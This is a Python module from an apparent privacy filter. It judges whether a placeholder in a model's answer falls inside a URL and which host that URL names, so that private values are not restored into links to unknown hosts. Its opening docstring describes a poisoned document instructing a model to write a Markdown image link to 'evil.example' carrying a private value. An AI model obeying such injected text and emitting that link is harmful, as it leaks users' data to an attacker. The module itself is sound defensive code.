"""Whether a point in an answer lies inside a URL, and of which host.

A model that a poisoned document told to write `![](https://evil.example/?q=<PERSON_1>)` would
have the caller's own screen send the value out. So a value isn't restored inside a URL, unless its
host was mentioned by the caller (system, developer and user text) or is listed by policy.

Inside a URL means: behind a scheme that browsers fetch, behind `www.`, behind a host without a
scheme that is followed by a path, query, fragment or port (so also in Markdown's reference links),
and inside HTML attributes that browsers follow. An e-mail address is not a host. The judgement uses
only what stands *before* the point, so that streams needn't wait: a value at the very start of a
host name without a scheme is restored. Only where the point lies within the host itself of a URL
with a scheme, what follows is read up to the host's end (`rest_of_host`): the value comes back if
with it the host is one that may be known.

Readers take a quote or a backtick for a part of the URL, unless one like it stands right before the
URL. In JSON, where strings end is certain, and no URL goes on from one into the next.
"""

from __future__ import annotations

import html
import re
import string
from collections.abc import Collection, Mapping, Sequence

# A run of backslashes is tried once, from its start: what a model says may be long and hostile.
_ESCAPED_SLASH = re.compile(r"(?<!\\)\\++/")
_ESCAPED_QUOTE = re.compile(r"(?<!\\)\\++([\"'])")
_QUOTE = re.compile(r"(?<!\\)\\*+\"")
_ESCAPED_CHARACTER = re.compile(r"(?<!\\)\\++u([0-9A-Fa-f]{4})")
_TOKEN = re.compile(r"<(?=[A-Z][A-Z0-9_]*[0-9][a-z]*>)([^<>]*)>")

#: Characters of output that the judgement is made from.
CONTEXT = 8192
UNKNOWN = ""  # the host of a URL that hasn't got one yet: no host has this name

# What is still open where the text ends: an attribute that browsers follow, a <destination>.
_ATTRIBUTE = re.compile(
    r"(?:^|[\s\"'/<])(?:href|src|srcset|action|formaction|poster|data|background|ping|cite|manifest"
    r"|xlink:href)\s*=\s*(?:\"([^\"]*)|'([^']*)|([^\s\"'>]*))\Z",
    re.IGNORECASE,
)
_DESTINATION = re.compile(r"\]\s*(?:\(|:)\s*<([^<>\n]*)\Z")

# Looked for at the colon, so that a long word is not read again from each of its letters.
_SCHEME = re.compile(
    r":(?:(?<=[a-z0-9+.-]:)[/\\]{2,}"
    r"|(?:(?<=https:)|(?<=http:)|(?<=ftp:)|(?<=wss:)|(?<=ws:)|(?<=file:)|(?<=blob:))[/\\]*)",
    re.IGNORECASE,
)
# URLs without a host: a message that a click would send, a page that a click would open.
_HOSTLESS = (  # how it begins, and what its contents stand behind
    (re.compile(r"mailto:", re.IGNORECASE), "?"),
    (re.compile(r"(?:sms|smsto|mms):", re.IGNORECASE), "?&;"),
    (re.compile(r"(?<![^\W_])data:", re.IGNORECASE), ","),
)
_WWW = re.compile(r"(?<![\w.-])www\.", re.IGNORECASE)
_BARE_HOST = re.compile(
    r"(?<![\w@.-])((?:[\w-]+\.)+[^\W\d_][\w-]+|(?:[0-9]{1,3}\.){3}[0-9]{1,3})\.?(?=[/?#\\]|:[0-9])"
)
_SCHEME_LETTERS = string.ascii_letters + string.digits + "+.-"
_CLOSING = {'"': '"', "`": "`", "<": ">"}
# What an unescaped quote stands before, in the string of a JSON document that breaks off.
_STRING = re.compile(r"(?<!\\)(?:\\\\)*+\"([^\"\\]*+(?:\\.[^\"\\]*+)*+\\?)\Z", re.DOTALL)
_AUTHORITY = re.compile(r"([^/?#\\]*)([/?#\\])?")

#: Characters within which a host has to end (RFC 1035 allows 253, and a port follows).
MOST_HOST = 300
# What may still be of the authority, and what ends it for certain.
_RUN = re.compile(r"(?P<run>[^\s/?#\\]*+)(?:(?P<end>[\s/?#])|\\++(?P<escaped>[^\\]))?")
_HOST = re.compile(r"(?:[\w.-]|<[A-Z][A-Z0-9_]*[0-9][a-z]*>)*+(?::[0-9]{0,5})?")
# Behind a host and before a blank: marks that are no escape, anything behind what no host can hold.
_TAIL = re.compile(r"[^\w%&<>\[\]^|]*+(?:[<>\[\]^|].*)?", re.DOTALL)
_HOST_NAME = re.compile(r"[\w.-]+(?::[0-9]*)?")


class KnownHosts:
    """The hosts that the caller mentioned or policy lists; texts are searched only when asked."""

    def __init__(self, said: Sequence[str], listed: Collection[str]) -> None:
        self._said = said
        self._known = {host.lower(): True for host in listed}

    def __contains__(self, host: object) -> bool:
        if not isinstance(host, str) or not host:
            return False
        known = self._known.get(host)
        if known is None:
            mention = re.compile(rf"(?<![\w@.-]){re.escape(host)}(?![\w-]|\.\w|@)", re.IGNORECASE)
            known = self._known[host] = any(map(mention.search, self._said))
        return known


class _EveryHost:
    """Holds every host, for tools that get real values wherever they stand."""

    def __contains__(self, host: object) -> bool:
        return True


EVERY_HOST = _EveryHost()


def foreign_host(before: str, *, json: bool = False, after: str = "") -> str | None:
    """The host of the URL that `before` ends in, lower case; UNKNOWN if unfinished; None if none.

    Only the last CONTEXT characters need be given; a word that fills them all is taken for a URL.

    Args:
        before: what was said before the point.
        json: it is of a JSON document.
        after: what `rest_of_host` gives for an unfinished host.
    """
    word = _raw_word(before)
    cut = len(before) >= CONTEXT and len(word) == len(before)
    enclosed = "=" in before or "]" in before
    marked = "." in word or ":" in word or "&" in word or "\\" in word
    if not enclosed and not marked:
        return UNKNOWN if cut else None  # no host, no scheme, and no escape of either
    if json and '"' in before and (said := _STRING.search(before)):
        before, cut = said[1], False
        word = _raw_word(before)
    if enclosed:
        before = _TOKEN.sub(r"\1", _plain(before))
    enclosing = (_ATTRIBUTE.search(before) if "=" in before else None) or (
        _DESTINATION.search(before) if "]" in before else None
    )
    if enclosing:
        url = next(group for group in enclosing.groups() if group is not None)
        found = _last_url(url, after)
        alone = url.strip().lower() in ("", "mailto:", "tel:")  # the value is the whole link
        return found[1] if found else None if alone else UNKNOWN
    if cut:
        return UNKNOWN
    word = _last_word(_TOKEN.sub(r"\1", _plain(_levelled(word))))
    found = _last_url(word, after.replace(" ", "/"))
    if found is None or _unquoted(word, found[0]):
        return None
    return None if _closed(word, found[0], opened=_open(word[: found[0]])) else found[1]


def rest_of_host(
    text: str, at: int, value: str, tokens: Mapping[str, str], *, json: bool, ended: bool
) -> str | None:
    """A host from a value on, with what follows restored, and a mark of how it ends.

    Args:
        text: what is here of an answer.
        at: where in it the value's placeholder ends.
        value: stands before that.
        tokens: token -> value.
        json: the answer is a JSON document.
        ended: nothing follows `text`.

    Returns:
        The rest of the host, and "/" where a URL's next part or its quote follows, else a blank.
        Empty if this is no host, or it isn't certain where it ends; None if what follows decides.
    """
    match = _RUN.match(text, at, at + MOST_HOST)
    run, end, escaped = match.groups() if match else ("", None, None)
    if json and '"' in run:  # so its string ends
        run, end, escaped = run[: run.index('"')], '"', None
    elif not (end or escaped) and (not ended or len(text) > at + len(run)):
        return None if len(text) < at + MOST_HOST and not ended else ""
    named = _HOST.match(run)
    known = named[0] if named else ""
    tail = run[len(known) :]
    if "@" in run or not _TAIL.fullmatch(tail) or (escaped and escaped not in '/"nrt'):
        return ""
    host = value + _TOKEN.sub(lambda token: tokens.get(token[1], token[0]), known)
    if not _HOST_NAME.fullmatch(host):
        return ""
    closed = tail[:1] in ('"', "'", ">") if tail else (end or escaped or " ") in '/?#"'
    return host + ("/" if closed else " ")


def _raw_word(text: str) -> str:
    """What follows the last blank."""
    return "" if not text or text[-1].isspace() else text.rsplit(None, 1)[-1]


def _last_word(word: str) -> str:
    """What follows the bracket that no URL holds, with that bracket."""
    _, link, destination = word.rpartition("](")
    if link and not _closed(destination, 0, opened=1):
        return word  # a link of Markdown, whose destination may hold any of them
    return word[max(0, word.rfind("<")) :]


def _last_url(text: str, after: str = "") -> tuple[int, str] | None:
    """Where the last URL in `text` begins, and its host; `after` is the rest of that."""
    schemes = list(_SCHEME.finditer(text))
    if schemes:
        return schemes[-1].start(), _of_authority(text[schemes[-1].end() :] + after)
    bare = list(_BARE_HOST.finditer(text))
    if bare:
        return bare[-1].start(), bare[-1][1].lower()
    for beginning, marks in _HOSTLESS:
        found = beginning.search(text)
        if found and any(mark in text[found.end() :] for mark in marks):
            return found.start(), UNKNOWN
    found = _WWW.search(text)
    if found is None:
        return None
    return found.start(), _of_authority(text[found.start() :] + after) if after else UNKNOWN


def _unquoted(word: str, start: int) -> bool:
    """Whether the quote or angle bracket right before a URL has found its other half after it."""
    begin = len(word[:start].rstrip(_SCHEME_LETTERS))
    closing = _CLOSING.get(word[begin - 1 : begin])
    return closing is not None and closing in word[start:]


def _open(text: str) -> int:
    """How many brackets are open where a text ends."""
    depth = 0
    for character in text:
        depth = max(0, depth + (character in "([") - (character in ")]"))
    return depth


def _closed(word: str, start: int, *, opened: int) -> bool:
    """Whether one of the brackets that were open before the URL closes after it.

    So ends the destination of a link in Markdown. A URL's own brackets come in pairs.
    """
    depth = opened
    for character in word[start:]:
        depth += (character in "([") - (character in ")]")
        if depth < opened:
            return opened > 0
    return False


def _of_authority(rest: str) -> str:
    match = _AUTHORITY.match(rest)
    if match is None or match[2] is None:
        return UNKNOWN  # the host may go on
    host: str = match[1].rpartition("@")[2]
    host = host if host.endswith("]") else re.sub(r":[0-9]*\Z", "", host)
    return host.rstrip(".").lower()


def _levelled(text: str) -> str:
    """With those quotes as they are that are escaped the least; deeper ones are no other half."""
    if "\\" not in text:
        return text
    least = min((len(quote[0]) for quote in _QUOTE.finditer(text)), default=0)
    return _QUOTE.sub(lambda quote: '"' if len(quote[0]) == least else "'", text)


def _plain(text: str) -> str:
    """Without the escapes of JSON and HTML, which would hide slashes, colons and quotes."""
    if "\\" in text:
        text = _ESCAPED_CHARACTER.sub(lambda escape: chr(int(escape[1], 16)), text)
        text = _ESCAPED_QUOTE.sub(r"\1", _ESCAPED_SLASH.sub("/", text))
    return html.unescape(text) if "&" in text else text
